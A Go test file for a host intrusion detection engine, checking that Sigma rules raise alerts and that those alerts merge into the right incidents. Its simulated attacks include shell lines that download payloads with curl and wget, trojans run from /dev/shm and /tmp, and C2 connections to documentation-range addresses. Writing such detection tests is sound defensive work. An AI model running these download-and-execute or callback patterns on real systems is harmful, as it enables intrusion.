package engine

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"baize/internal/alert"
	"baize/internal/engine/enginetest"
	"baize/internal/event"
	"baize/internal/incident"
	"baize/internal/provenance"
)

// rulesForTests are the few rules that the scenarios need, in Sigma.
var rulesForTests = fstest.MapFS{
	"shell.yml": {Data: []byte(`
title: Service spawned a shell
id: 11111111-0000-4000-8000-000000000001
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  s: {Image|endswith: /sh, CommandLine|contains: '-c '}
  condition: s
`)},
	"shm.yml": {Data: []byte(`
title: Image in shared memory executed
id: 11111111-0000-4000-8000-000000000002
level: critical
tags: [attack.defense-evasion]
logsource: {product: linux, category: process_creation}
detection:
  s: {Image|startswith: [/dev/shm/, /tmp/]}
  condition: s
`)},
	"connect.yml": {Data: []byte(`
title: Outbound connection from a temporary image
id: 11111111-0000-4000-8000-000000000003
level: high
tags: [attack.command-and-control]
logsource: {product: linux, category: network_connection}
detection:
  s: {Image|startswith: [/dev/shm/, /tmp/]}
  condition: s
`)},
	"dnslog.yml": {Data: []byte(`
title: Lookup of a callback service
id: 11111111-0000-4000-8000-000000000004
level: medium
tags: [attack.reconnaissance]
logsource: {product: linux, category: dns_query}
detection:
  s: {QueryName|endswith: .dnslog.example}
  condition: s
`)},
	"curl.yml": {Data: []byte(`
title: Download tool
id: 11111111-0000-4000-8000-000000000005
level: low
logsource: {product: linux, category: process_creation}
detection:
  s: {Image|endswith: /curl}
  condition: s
`)},
}

func testRules(t testing.TB) Rules {
	t.Helper()
	rules, report, err := LoadRules(rulesForTests)
	if err != nil || len(report.Invalid)+len(report.Unsupported) > 0 {
		t.Fatalf("rules: %v, %+v", err, report)
	}
	return rules
}

// seen is what a store would hold after a log: the newest of each.
type seen struct {
	alerts map[string]alert.Alert
	// chains are the kill-chain alerts, which are no firings of rules.
	chains     map[string]alert.Alert
	intrusions map[string]provenance.Intrusion
	incidents  map[string]incident.Incident
	order      []string
}

func run(t testing.TB, events []*event.Event) seen {
	t.Helper()
	e := New(Config{Rules: testRules(t)})
	s := collect(t, e, events)
	sound(t, e)
	return s
}

func collect(t testing.TB, e *Engine, events []*event.Event) seen {
	t.Helper()
	s := seen{
		alerts: map[string]alert.Alert{}, chains: map[string]alert.Alert{}, intrusions: map[string]provenance.Intrusion{},
		incidents: map[string]incident.Incident{},
	}
	for _, ev := range events {
		s.take(t, e.Process(ev))
	}
	s.take(t, e.Finish())
	return s
}

func (s *seen) take(t testing.TB, out Output) {
	t.Helper()
	for _, i := range out.Intrusions {
		if have, ok := s.intrusions[i.ID]; ok && have.Revision >= i.Revision {
			t.Fatalf("intrusion %s: revision %d after %d", i.ID, i.Revision, have.Revision)
		}
		s.intrusions[i.ID] = i
	}
	for _, a := range out.Alerts {
		if a.Kind == alert.KindChain {
			if have, ok := s.chains[a.ID]; ok && have.Revision >= a.Revision {
				t.Fatalf("kill chain %s: revision %d after %d", a.ID, a.Revision, have.Revision)
			}
			s.chains[a.ID] = a
			continue
		}
		if have, ok := s.alerts[a.ID]; ok && have.Revision >= a.Revision {
			t.Fatalf("alert %s: revision %d after %d", a.ID, a.Revision, have.Revision)
		}
		s.alerts[a.ID] = a
	}
	for _, i := range out.Incidents {
		have, ok := s.incidents[i.ID]
		if ok && have.Revision >= i.Revision {
			t.Fatalf("incident %s: revision %d after %d", i.ID, i.Revision, have.Revision)
		}
		if !ok {
			s.order = append(s.order, i.ID)
		}
		s.incidents[i.ID] = i
	}
}

// open are the incidents that stand, in the order in which they opened.
func (s *seen) open() []incident.Incident {
	var list []incident.Incident
	for _, id := range s.order {
		if i := s.incidents[id]; i.MergedInto == "" {
			list = append(list, i)
		}
	}
	return list
}

func TestTheReportIsOneIncident(t *testing.T) {
	w, events := enginetest.Record()
	web := w.Host("web-1")
	java := web.Service("jenkins.service", "/usr/bin/java", "-jar", "jenkins.war")
	enginetest.Benign(w.Host("web-2"), 3)
	enginetest.First.Round(java)
	enginetest.Benign(web, 3)
	enginetest.Second.Round(java)
	s := run(t, *events)
	open := s.open()
	if len(open) != 1 {
		t.Fatalf("%d incidents, want 1: %+v", len(open), open)
	}
	if len(open[0].Alerts) != len(s.alerts)+len(s.chains) || len(s.alerts) < 6 {
		t.Fatalf("%d of %d alerts are in the incident", len(open[0].Alerts), len(s.alerts))
	}
	for _, want := range []string{"203.0.113.9", "203.0.113.77"} {
		if !slices.ContainsFunc(open[0].Entities, func(e alert.Entity) bool { return e.Value == want }) {
			t.Errorf("entities lack %s", want)
		}
	}
	for _, want := range []string{"jenkins.service", "/bin/sh -c curl http://203.0.113.9/t", "203.0.113.77:443", "/dev/shm/kworker"} {
		if !strings.Contains(open[0].Account, want) || !strings.Contains(open[0].AccountZH, want) {
			t.Errorf("account lacks %q: %s / %s", want, open[0].Account, open[0].AccountZH)
		}
	}
	if !strings.Contains(open[0].Account, "Shells were started 2 times.") {
		t.Errorf("account miscounts the shells: %s", open[0].Account)
	}
	checkForest(t, open[0])
}

// checkForest demands that the reasons connect all alerts without a cycle.
func checkForest(t *testing.T, i incident.Incident) {
	t.Helper()
	if len(i.Reasons) != len(i.Alerts)-1 {
		t.Fatalf("%d reasons for %d alerts", len(i.Reasons), len(i.Alerts))
	}
	root := map[string]string{}
	var find func(string) string
	find = func(a string) string {
		if next, ok := root[a]; ok {
			return find(next)
		}
		return a
	}
	for _, r := range i.Reasons {
		a, b := find(r.A), find(r.B)
		if a == b {
			t.Fatalf("reasons have a cycle at %+v", r)
		}
		root[a] = b
	}
}

func TestBenignWorkRaisesNothing(t *testing.T) {
	w, events := enginetest.Record()
	enginetest.Benign(w.Host("web-1"), 20)
	if s := run(t, *events); len(s.alerts)+len(s.incidents) != 0 {
		t.Fatalf("alerts %v", s.alerts)
	}
}

func TestTwoIntrudersInOneServiceStayTwo(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	enginetest.First.Round(java)
	java.Accept("198.51.100.99")
	sh := java.Fork().Exec("/bin/sh", "-c", "python3 -c 'import pty' && wget -q --no-check-certificate https://203.0.113.50/x")
	sh.Spawn("/tmp/.font-unix/sysd").Connect("203.0.113.51", 8443)
	enginetest.First.Round(java)
	s := run(t, *events)
	if open := s.open(); len(open) != 2 {
		t.Fatalf("%d incidents, want 2: %+v", len(open), open)
	}
}

func TestTwoServicesStayTwo(t *testing.T) {
	w, events := enginetest.Record()
	h := w.Host("web-1")
	other := enginetest.Trojan{From: "198.51.100.90", URL: "http://203.0.113.60/t", File: "/dev/shm/x", C2: "203.0.113.60", Title: "[kswapd1]"}
	a, b := h.Service("a.service", "/usr/bin/java", "a"), h.Service("b.service", "/usr/bin/java", "b")
	enginetest.First.Round(a)
	other.Round(b)
	s := run(t, *events)
	if open := s.open(); len(open) != 2 {
		t.Fatalf("%d incidents, want 2", len(open))
	}
}

func TestADaemonWithoutUnitIsAServiceToo(t *testing.T) {
	w, events := enginetest.Record()
	h := w.Host("web-1")
	java := h.Daemon("/usr/bin/java", "-jar", "a.jar")
	enginetest.First.Round(java)
	enginetest.Second.Round(java)
	enginetest.Trojan{From: "198.51.100.90", URL: "http://203.0.113.60/t", File: "/dev/shm/x", C2: "203.0.113.60"}.Round(h.Daemon("/usr/bin/node", "b.js"))
	s := run(t, *events)
	if open := s.open(); len(open) != 2 {
		t.Fatalf("%d incidents, want one for each daemon: %+v", len(open), open)
	}
}

func TestARareAddressJoinsHosts(t *testing.T) {
	w, events := enginetest.Record()
	one, two := w.Host("web-1"), w.Host("web-2")
	enginetest.First.Round(one.Service("a.service", "/usr/bin/java"))
	again := enginetest.First
	again.File, again.From = "/dev/shm/other", "198.51.100.44"
	again.Round(two.Service("a.service", "/usr/bin/java"))
	s := run(t, *events)
	open := s.open()
	if len(open) != 1 || len(open[0].Hosts) != 2 {
		t.Fatalf("%d incidents, want 1 on 2 hosts", len(open))
	}
	if !slices.ContainsFunc(open[0].Reasons, func(r incident.Reason) bool { return strings.HasPrefix(r.Reason, incident.ReasonAddress) }) {
		t.Fatalf("no reason names the address: %+v", open[0].Reasons)
	}
}

func TestAnAddressOfBenignWorkJoinsNothing(t *testing.T) {
	w, events := enginetest.Record()
	one, two := w.Host("web-1"), w.Host("web-2")
	w.Host("web-3").Login().Spawn("/usr/bin/git", "pull").Connect("203.0.113.9", 443)
	a, b := enginetest.First, enginetest.First
	b.File, b.From = "/tmp/.x/other", "198.51.100.44"
	a.Round(one.Service("a.service", "/usr/bin/java"))
	b.Round(two.Service("a.service", "/usr/bin/java"))
	if open := runOpen(t, *events); len(open) != 2 {
		t.Fatalf("%d incidents, want 2", len(open))
	}
}

// TestWhatAnIntruderPlantedIsNoWitness: another session runs a file and calls the
// intruder's address without raising an alert. It is his if he left the file.
func TestWhatAnIntruderPlantedIsNoWitness(t *testing.T) {
	for planted, want := range map[bool]int{true: 1, false: 2} {
		w, events := enginetest.Record()
		one, two := w.Host("web-1"), w.Host("web-2")
		a, b := enginetest.First, enginetest.First
		b.File, b.From = "/tmp/.x/other", "198.51.100.44"
		author := a.Round(one.Service("a.service", "/usr/bin/java"))
		if !planted {
			author = one.Login()
		}
		author.Write("/opt/sync")
		one.Login().Spawn("/opt/sync").Connect(a.C2, 443)
		b.Round(two.Service("a.service", "/usr/bin/java"))
		if open := runOpen(t, *events); len(open) != want {
			t.Errorf("planted %v: %d incidents, want %d", planted, len(open), want)
		}
	}
}

func runOpen(t *testing.T, events []*event.Event) []incident.Incident {
	s := run(t, events)
	return s.open()
}

func TestAFileWrittenThereAndExecutedHereJoins(t *testing.T) {
	w, events := enginetest.Record()
	h := w.Host("web-1")
	h.Login().Spawn("/usr/bin/wget", "x").Write("/tmp/job").Spawn("/bin/sh", "-c", "echo planted")
	h.Login().Spawn("/tmp/job")
	s := run(t, *events)
	if open := s.open(); len(open) != 1 {
		t.Fatalf("%d incidents, want 1: %+v", len(open), open)
	}
}

func TestALowAlertWaitsForItsIncident(t *testing.T) {
	w, events := enginetest.Record()
	h := w.Host("web-1")
	session := h.Login()
	session.Spawn("/usr/bin/curl", "http://203.0.113.9/x")
	w.Advance(2 * time.Second)
	e := New(Config{Rules: testRules(t)})
	before := collect(t, e, *events)
	if len(before.alerts) != 1 || len(before.incidents) != 0 {
		t.Fatalf("a low alert alone: %d alerts, %d incidents", len(before.alerts), len(before.incidents))
	}
	*events = nil
	session.Spawn("/dev/shm/x")
	after := collect(t, e, *events)
	if open := after.open(); len(open) != 1 || len(open[0].Alerts) != 2 {
		t.Fatalf("incidents %+v, want one with both alerts", open)
	}
}

func TestTheAgentsOwnDoingsAreLeftOut(t *testing.T) {
	w, events := enginetest.Record()
	w.Host("web-1").Init.Fork().Agent().Exec("/bin/sh", "-c", "true").Spawn("/dev/shm/cleaner")
	if s := run(t, *events); len(s.alerts) != 0 {
		t.Fatalf("alerts %v", s.alerts)
	}
}

// TestALateDigestJoins: the same content under other names, on hosts that
// share nothing else, known only after the alerts were raised.
func TestALateDigestJoins(t *testing.T) {
	w, events := enginetest.Record()
	var trojans []*enginetest.Process
	for _, id := range []string{"web-1", "web-2"} {
		h := w.Host(id)
		h.SlowDigests = true
		trojans = append(trojans, h.Login().Write("/tmp/x").Spawn("/tmp/x"))
	}
	for _, p := range trojans {
		p.Digest()
	}
	s := run(t, *events)
	open := s.open()
	if len(open) != 1 || !slices.ContainsFunc(open[0].Reasons, func(r incident.Reason) bool { return r.Reason == incident.ReasonHash }) {
		t.Fatalf("incidents %+v", open)
	}
	for _, a := range s.alerts {
		if !slices.ContainsFunc(a.Entities, func(e alert.Entity) bool { return e.Type == alert.EntityHash && e.Role == incident.RoleImage }) {
			t.Errorf("alert lacks the digest: %+v", a.Entities)
		}
	}
}

func TestRepeatsAreCounted(t *testing.T) {
	w, events := enginetest.Record()
	trojan := enginetest.First.Round(w.Host("web-1").Service("a.service", "/usr/bin/java"))
	for range 50 {
		trojan.Connect("203.0.113.9", 443)
	}
	s := run(t, *events)
	open := s.open()
	if len(open) != 1 || open[0].Count != uint64(len(s.alerts)+len(s.chains))+50 {
		t.Fatalf("count %d of %d alerts", open[0].Count, len(s.alerts))
	}
}

func TestLostTelemetryIsALowSensorAlert(t *testing.T) {
	w, events := enginetest.Record()
	w.Host("web-1")
	ev := func(seq uint64) *event.Event {
		return &event.Event{Host: event.Host{ID: "web-1"}, Boot: "b", Seq: seq, Time: w.Now, Kind: event.SensorCoverage, Coverage: &event.Coverage{Class: event.ClassFile, State: event.CoverageLost, Lost: 3}}
	}
	*events = append(*events, ev(1), ev(2), &event.Event{Host: event.Host{ID: "web-1"}, Seq: 3, Time: w.Now, Kind: event.GatewayRefused, Message: "forged host"})
	s := run(t, *events)
	if len(s.alerts) != 2 || len(s.incidents) != 0 {
		t.Fatalf("alerts %v, incidents %v", s.alerts, s.incidents)
	}
	for _, a := range s.alerts {
		if a.Kind != alert.KindSensor || a.Rule.ID == lost.ID && (a.Count != 2 || a.Rule.Level != "low") {
			t.Errorf("alert %+v", a)
		}
	}
}
